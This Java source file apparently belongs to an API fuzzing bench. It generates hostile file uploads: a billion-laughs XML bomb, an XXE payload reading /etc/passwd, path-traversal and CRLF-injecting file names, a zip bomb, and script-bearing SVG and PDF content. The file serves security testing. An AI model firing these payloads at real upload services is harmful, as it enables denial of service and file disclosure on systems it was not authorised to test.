package cn.hotline.bench.fuzz;

import cn.hotline.bench.attack.Shot;
import cn.hotline.bench.attack.Shots;
import io.swagger.v3.oas.models.media.MediaType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files nobody should take in 恶意文件: bombs, entities, names that climb, things under another's name. */
final class BadFiles {
    private static final String LAUGHS = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b"
            + " \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d"
            + " \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f"
            + " \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><l>&g;</l>";
    private static final String ENTITY =
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
    private static final List<String> NAMES = List.of(
            "a.png",
            "../../a.png",
            "..\\a.png",
            "/etc/passwd",
            "a.jsp",
            "a\u0000.png",
            "a\".png",
            "a.docx",
            "a.pdf",
            "CON",
            "x".repeat(300) + ".png",
            ".htaccess",
            "a.png;.exe",
            "\u202egnp.exe",
            "",
            "a\r\nX-Injected: 1");
    private static final List<String> TYPES = List.of(
            "image/png",
            "image/jpeg",
            "application/pdf",
            "text/html",
            "image/svg+xml",
            "application/octet-stream",
            "a",
            "",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
    private static final int BOMB = 60 << 20;
    private static final int GREAT = 11 << 20;

    private final Random random;
    private final Shots shots;
    private byte[] bomb;

    BadFiles(Random random, Shots shots) {
        this.random = random;
        this.shots = shots;
    }

    /** A form, or a table, with something else in it. */
    Shot spoil(Shot honest) {
        if (honest.door().body().containsKey("text/csv")) {
            return honest.body(table(honest.body())).as("file-table");
        }
        MediaType form = honest.door().body().get("multipart/form-data");
        byte[] whole = shots.form(form, any(NAMES), any(TYPES), content());
        return switch (random.nextInt(8)) {
            case 0 ->
                honest.body(java.util.Arrays.copyOf(whole, whole.length / 2)).as("file-cut");
            case 1 ->
                honest.body(whole).header("Content-Type", "multipart/form-data").as("file-boundary");
            case 2 ->
                honest.body(whole)
                        .header("Content-Type", "multipart/form-data; boundary=other")
                        .as("file-boundary");
            default -> honest.body(whole).as("file");
        };
    }

    private byte[] content() {
        return switch (random.nextInt(12)) {
            case 0 -> new byte[0];
            case 1 -> zipped("word/document.xml", LAUGHS.getBytes(StandardCharsets.UTF_8));
            case 2 -> zipped("word/document.xml", ENTITY.getBytes(StandardCharsets.UTF_8));
            case 3 -> zipped("../../../evil.txt", new byte[10]);
            case 4 -> bomb();
            case 5 -> utf8("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
            case 6 -> utf8("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>");
            case 7 ->
                new byte[] {
                    (byte) 0x89,
                    'P',
                    'N',
                    'G',
                    13,
                    10,
                    26,
                    10,
                    0,
                    0,
                    0,
                    13,
                    'I',
                    'H',
                    'D',
                    'R',
                    127,
                    -1,
                    -1,
                    -1,
                    127,
                    -1,
                    -1,
                    -1,
                    8
                };
            case 8 -> new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F'};
            case 9 -> utf8("MZ\u0090 not a picture");
            case 10 -> random.nextInt(10) == 0 ? new byte[GREAT] : utf8(LAUGHS);
            default -> noise();
        };
    }

    private byte[] noise() {
        byte[] noise = new byte[random.nextInt(4_000)];
        random.nextBytes(noise);
        return noise;
    }

    private byte[] table(byte[] honest) {
        String text = new String(honest, StandardCharsets.UTF_8);
        List<String> lines = List.of(text.split("\r?\n", 4));
        String head = lines.get(0);
        return switch (random.nextInt(9)) {
            case 0 -> new byte[0];
            case 1 -> utf8(head);
            case 2 -> utf8(head + "\r\n" + "\"open");
            case 3 -> utf8(head + "\r\n" + (any(Nasty.TEXTS) + ",").repeat(head.split(",").length));
            case 4 -> utf8(text.replaceFirst(",", "," + any(Nasty.TEXTS).replaceAll("[\\\\$]", "")));
            case 5 -> utf8(head + "," + head + "\r\n" + (lines.size() > 1 ? lines.get(1) : ""));
            case 6 -> text.getBytes(StandardCharsets.UTF_16);
            case 7 -> utf8("a,b\r\n1,2");
            default -> noise();
        };
    }

    private synchronized byte[] bomb() {
        if (bomb == null) {
            bomb = zipped("word/document.xml", new byte[BOMB]);
        }
        return bomb;
    }

    private static byte[] zipped(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String each : List.of("[Content_Types].xml", "_rels/.rels", name)) {
                zip.putNextEntry(new ZipEntry(each));
                zip.write(each.equals(name) ? content : utf8(LAUGHS));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private <T> T any(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
